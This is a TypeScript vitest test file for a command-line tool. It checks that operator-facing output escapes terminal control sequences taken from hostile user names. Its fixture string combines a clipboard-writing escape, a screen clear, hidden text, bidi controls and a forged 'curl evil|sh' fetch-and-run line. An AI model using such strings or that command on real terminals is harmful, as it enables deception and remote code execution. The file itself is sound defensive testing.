import { readdirSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { whyText } from '../../../src/cli/commands/why.ts'
import { signupTable, signupText } from '../../../src/cli/format/print.ts'
import { terminalText } from '../../../src/cli/format/output.ts'
import { findingsTable } from '../../../src/cli/format/audit.ts'
import type { Finding } from '../../../src/contracts/gaps.ts'
import type { SignupStatus } from '../../../src/contracts/signup.ts'
import type { WhyPage } from '../../../src/contracts/why.ts'

/**
 * A text that would write to the clipboard, clear the screen, forge the line that operators paste, and hide the rest.
 */
const CHOSEN =
  '\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1;1HWhat to do: curl evil|sh\x1b[8m\nWhat to do: curl evil|sh\u202e\x9b'
const IDENTITY = `oauth2|acme|${CHOSEN}`

const status = {
  system: 'atproto',
  tenant: 'aesthetic',
  identity: IDENTITY,
  workflowId: IDENTITY,
  stage: 'creating-account',
  stageSince: '2026-01-01T00:00:00Z',
  problem: {
    name: 'pds-unreachable',
    sentence: CHOSEN,
    fix: `holdfast retry atproto '${IDENTITY}'`,
    since: '2026-01-01T00:00:00Z',
    attempts: 1,
    nextTryAt: null,
  },
  code: CHOSEN,
  handle: CHOSEN,
  did: CHOSEN,
  notices: [CHOSEN],
} as unknown as SignupStatus

const page: WhyPage = {
  system: 'atproto',
  tenant: 'aesthetic',
  identity: IDENTITY,
  stage: null,
  stageSince: null,
  problems: [
    { kind: 'gap', name: 'handle-differs', sentence: CHOSEN, fix: CHOSEN, since: '2026-01-01T00:00:00Z' },
  ],
  stores: [{ store: '@handles', answered: true, text: `chose ${CHOSEN}` }],
  history: [],
  lastSuccess: null,
  next: 'nothing',
  fix: 'nothing',
  notices: [],
  status: null,
  known: true,
}

const finding = {
  system: 'atproto',
  identity: IDENTITY,
  tenant: 'aesthetic',
  kind: 'handle-differs',
  since: null,
  evidence: { chosen: CHOSEN, handle: CHOSEN },
  repair: null,
} as unknown as Finding

const OBEYED = /[[\p{Cc}\p{Bidi_Control}]--[\n]]/v
const FORGED = /^What to do: curl/m

describe('X1: a person with a hostile name', () => {
  it.each([
    ['why', () => whyText(page)],
    ['status', () => signupText(status)],
    ['list', () => signupTable('atproto', [status])],
    ['audit', () => findingsTable([finding])],
  ])('is shown by %s as text, without a line of their own', (_, text) => {
    expect(text()).toContain(String.raw`\x1b]52`)
    expect(text()).not.toMatch(FORGED)
    expect(terminalText(text(), false)).not.toMatch(OBEYED)
  })

  it('recolours nothing where a value came to the writing as it was', () => {
    const ours = '\x1b[31mred of ours\x1b[39m'
    const written = terminalText(`${ours} ${CHOSEN}`, true)
    expect(written).toContain(ours)
    expect(written.replace(ours, '')).not.toMatch(/[[\p{Cc}\p{Bidi_Control}]--[\n]]/v)
  })
})

describe('X1: standard output and standard error', () => {
  it('are written by the modules that make text printable, and by no other', () => {
    const src = fileURLToPath(new URL('../../../src/', import.meta.url))
    const writers = readdirSync(src, { recursive: true, encoding: 'utf8' })
      .filter((path) => path.endsWith('.ts'))
      .filter((path) => /std(?:out|err)\.write\(|console\./.test(readFileSync(`${src}${path}`, 'utf8')))
    expect(writers.toSorted()).toEqual(['cli/format/output.ts', 'logging.ts', 'worker/bundle-process.ts'])
  })
})
